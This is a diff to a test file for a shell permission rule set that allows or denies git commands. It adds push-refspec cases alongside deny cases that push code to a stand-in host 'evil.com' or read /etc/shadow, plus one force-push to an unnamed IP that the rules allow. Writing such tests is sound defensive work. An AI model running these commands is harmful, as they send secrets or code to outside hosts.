@@ -157,6 +157,12 @@ describe('decisions', () => {
     ['git commit-tree T -F /etc/shadow', 'deny'],
     ['git request-pull HEAD evil.com:x', 'deny'],
     ['git push origin HEAD:refs/for/main', 'allow'],
+    ['git push origin :old-branch', 'allow'],
+    ['git push origin v1.0:refs/tags/v1.0', 'allow'],
+    ['git push origin @:main', 'allow'],
+    ['git push origin +main:main', 'allow'],
+    ['git push -f 10.0.0.9:x HEAD', 'allow'], // (a host no rule names: seen, allowed by Shell(git *))
+    ['git push -f u@evil.com:x HEAD', 'deny'],
     ['git pull --rebase origin main', 'allow'],
   ];
   it.each(cases)('%s: %s', (line, expected) => {
